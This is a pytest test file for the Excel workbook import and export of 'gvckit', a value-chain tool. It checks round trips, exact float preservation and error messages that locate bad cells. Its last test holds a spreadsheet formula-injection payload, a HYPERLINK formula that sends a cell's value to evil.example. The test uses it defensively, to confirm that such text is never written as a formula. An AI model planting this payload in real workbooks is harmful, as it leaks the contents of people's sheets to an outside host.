"""The Excel workbook: template written by gvckit, filled in, read back with located errors."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from exact import differences
from gvckit import chain
from gvckit.chain import Chain
from gvckit.chain.workbook import SHEETS, read_workbook, write_template
from gvckit.cli import main
from gvckit.errors import ChainError

SMALL = Path(__file__).parent / "data" / "chain_small.yaml"


def test_round_trip(tmp_path: Path) -> None:
    original = chain.read_chain(SMALL)
    xlsx = tmp_path / "chain.xlsx"
    write_template(xlsx, original)
    assert read_workbook(xlsx) == original
    assert chain.read_chain(xlsx) == original  # read_chain takes workbooks too


def test_empty_template_has_every_sheet(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    xlsx = tmp_path / "t.xlsx"
    assert main(["chain", "template", "-o", str(xlsx)]) == 0
    wb = load_workbook(xlsx)
    assert wb.sheetnames == ["chain", *SHEETS, "intervention", "intervention_sources"]
    assert [c.value for c in wb["actors"][1]] == SHEETS["actors"][0]
    kinds = wb["actors"].data_validations.dataValidation[0]
    assert "smallholder" in str(kinds.formula1)
    # an empty template is not a chain yet: the error names what is missing
    with pytest.raises(ChainError, match="name"):
        read_workbook(xlsx)


def _edit(tmp_path: Path, sheet: str, row: int, column: str, value: object) -> Path:
    xlsx = tmp_path / "c.xlsx"
    write_template(xlsx, chain.read_chain(SMALL))
    wb = load_workbook(xlsx)
    ws = wb[sheet]
    col = [c.value for c in ws[1]].index(column) + 1
    ws.cell(row=row, column=col, value=value)
    wb.save(xlsx)
    return xlsx


@pytest.mark.parametrize(
    ("sheet", "row", "column", "value", "needle"),
    [
        ("actors", 3, "stage", "farming", "'farming' is not a stage"),
        ("links", 4, "volume", -3, "greater than or equal to 0"),
        ("actors", 2, "employment.share_women", 1.5, "less than or equal to 1"),
        ("links", 2, "currency", "GBP", "no exchange rate"),
        ("actors", 2, "kind", "farmer", "smallholder"),
    ],
)
def test_errors_name_sheet_row_and_column(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], sheet: str, row: int, column: str,
    value: object, needle: str,
) -> None:  # fmt: skip
    xlsx = _edit(tmp_path, sheet, row, column, value)
    assert main(["chain", "check", str(xlsx)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0
    assert err.startswith(f"error: {xlsx} [{sheet}], row {row}, column '{column}'"), err
    assert needle in err


def test_bad_year_cell(tmp_path: Path) -> None:
    xlsx = _edit(tmp_path, "stages", 3, "year", "twenty")
    with pytest.raises(ChainError, match=r"\[stages\], row 3, column 'year'"):
        read_workbook(xlsx)


def _edited(tmp_path: Path, edit: object) -> Path:
    xlsx = tmp_path / "c.xlsx"
    write_template(xlsx, chain.read_chain(SMALL))
    wb = load_workbook(xlsx)
    edit(wb)  # type: ignore[operator]
    wb.save(xlsx)
    return xlsx


def _header(ws: object) -> list[object]:
    return [c.value for c in ws[1]]  # type: ignore[index]


def _dup_count_column(wb: object) -> None:
    ws = wb["actors"]  # type: ignore[index]
    j = len(_header(ws)) + 1
    ws.cell(row=1, column=j, value="count")
    ws.cell(row=2, column=j, value=999)


def _blank_kind_header(wb: object) -> None:
    wb["links"]["D1"].value = None  # type: ignore[index]


def _rate_without_currency(wb: object) -> None:
    wb["exchange_rates"].append([2020, None, 1.5])  # type: ignore[index]


def _chain_name_twice(wb: object) -> None:
    wb["chain"].append(["name", "Another name"])  # type: ignore[index]


def _year_true(wb: object) -> None:
    ws = wb["actors"]  # type: ignore[index]
    ws.cell(row=2, column=_header(ws).index("year") + 1, value=True)


def _date_as_volume(wb: object) -> None:
    import datetime as dt

    ws = wb["links"]  # type: ignore[index]
    ws.cell(row=2, column=_header(ws).index("volume") + 1, value=dt.datetime(2020, 1, 5))


def _error_as_name(wb: object) -> None:
    ws = wb["actors"]  # type: ignore[index]
    ws.cell(row=3, column=_header(ws).index("name") + 1, value="#N/A")


def _true_as_price(wb: object) -> None:
    ws = wb["links"]  # type: ignore[index]
    ws.cell(row=2, column=_header(ws).index("unit_price") + 1, value=True)


def _id_lost_in_merged_cells(wb: object) -> None:
    wb["actors"].merge_cells("B2:B3")  # type: ignore[index]


@pytest.mark.parametrize(
    ("edit", "where", "needle"),
    [
        # each of these was read without a word: the later 'count' or 'name' silently won,
        # a link's kind was dropped, a rate was kept for the currency 'None', TRUE was the
        # year 1 (refused as "snapshots[0].stages: Field required", no sheet or row)
        (_dup_count_column, "[actors], row 1, column 'X'", "column 'count' appears twice"),
        (_blank_kind_header, "[links], row 2, column 'D'", "a value in a column without a name"),
        (_rate_without_currency, "[exchange_rates], row 3, column 'currency'",
         "the currency is missing"),
        (_chain_name_twice, "[chain], row 8, column 'field'", "field 'name' is given twice"),
        (_year_true, "[actors], row 2, column 'year'", "not a whole number"),
        (_id_lost_in_merged_cells, "[actors], row 3, column 'id'", "Field required"),
        # a date was read as the text '2020-01-05 00:00:00', '#N/A' as an actor's name
        (_date_as_volume, "[links], row 2, column 'volume'", "a date or time"),
        (_error_as_name, "[actors], row 3, column 'name'", "an error of the spreadsheet"),
        (_true_as_price, "[links], row 2, column 'unit_price'", "TRUE/FALSE"),
    ],
)  # fmt: skip
def test_cells_that_would_be_lost_or_misread_are_refused_by_sheet_row_and_column(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], edit: object, where: str, needle: str
) -> None:
    xlsx = _edited(tmp_path, edit)
    assert main(["chain", "check", str(xlsx)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0
    assert err.startswith(f"error: {xlsx} {where}"), err
    assert needle in err


def test_not_a_workbook(tmp_path: Path) -> None:
    p = tmp_path / "x.xlsx"
    p.write_bytes(b"not a zip")
    with pytest.raises(ChainError, match="cannot read the workbook"):
        read_workbook(p)


EXAMPLES = sorted((Path(__file__).resolve().parents[1] / "examples" / "chains").glob("*.yaml"))


@pytest.mark.parametrize("path", [SMALL, *EXAMPLES], ids=lambda p: p.stem)
def test_round_trip_keeps_every_number_exactly(tmp_path: Path, path: Path) -> None:
    original = chain.read_chain(path)
    xlsx = tmp_path / "chain.xlsx"
    write_template(xlsx, original)
    assert differences(read_workbook(xlsx), original) == []


#: floats whose shortest decimal needs 17 digits, or that %.16g rounds past (to inf, to 0)
AWKWARD = [1 / 3, 0.1 + 0.2, 1.2195121951219512, 2 / 3, 1e-300, 5e-324, 2.2250738585072014e-308,
           1.7976931348623157e308, 2.0**53 + 2, 2.0**60 + 512, 1e22, 123456789012345680.0,
           9007199254740993.0, 0.0]  # fmt: skip


def _awkward_chain(draw: st.DrawFn) -> Chain:
    """The small chain with its numbers replaced by awkward floats, wherever the model takes them
    (negative numbers and -0.0 only where it allows them: net taxes)."""
    nonneg = st.sampled_from(AWKWARD) | st.floats(min_value=0.0, allow_nan=False,
                                                  allow_infinity=False)  # fmt: skip
    positive = nonneg.filter(lambda x: x > 0)
    signed = nonneg | nonneg.map(lambda x: -x) | st.just(-0.0)
    data = chain.read_chain(SMALL).model_dump(mode="json")
    snap = data["snapshots"][0]
    for actor in snap["actors"]:
        actor["external_inputs"] = draw(nonneg)
        actor["other_output"] = draw(nonneg)
        actor["product_equivalent"] = draw(positive)
        actor["count"] = draw(st.integers(0, 2**62))
        actor["value_added_split"]["taxes"] = draw(signed)
        actor["value_added_split"]["wages"] = draw(nonneg)
        actor["employment"]["jobs"] = draw(nonneg)
        actor["employment"]["share_women"] = draw(st.floats(0.0, 1.0) | st.just(1 / 3))
    for link in snap["links"]:
        if link["volume"] is not None:
            link["volume"], link["unit_price"] = draw(nonneg), draw(nonneg)
        else:
            link["money"] = draw(nonneg)
    snap["exchange_rates"] = {"EUR": draw(positive)}
    snap["reference_prices"] = {"retail": draw(positive), "production": draw(positive)}
    return Chain.model_validate(data)


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])  # fmt: skip
@given(st.data())
def test_round_trip_keeps_awkward_floats_exactly(tmp_path: Path, data: st.DataObject) -> None:
    original = _awkward_chain(data.draw)
    xlsx = tmp_path / "awkward.xlsx"
    write_template(xlsx, original)
    back = read_workbook(xlsx)
    assert differences(back, original) == []
    assert back == original


def test_text_starting_with_equals_is_written_as_text_never_as_a_formula(tmp_path: Path) -> None:
    """A name in a chain (or an intervention, an IATI title...) that starts with ``=`` is text:
    written as a formula, the spreadsheet would run it (``=HYPERLINK``, ``=WEBSERVICE`` sending
    the sheet's cells away) and the workbook would read back without it (no cached value)."""
    import zipfile

    payload = '=HYPERLINK("http://evil.example/?"&B2,"click")'
    original = chain.read_chain(SMALL).model_copy(update={"name": payload, "product": "=1+1"})
    xlsx = tmp_path / "chain.xlsx"
    write_template(xlsx, original)
    with zipfile.ZipFile(xlsx) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for part in sheets:
            assert b"<f>" not in zf.read(part), part
    assert load_workbook(xlsx)["chain"]["B2"].data_type == "s"
    assert read_workbook(xlsx) == original
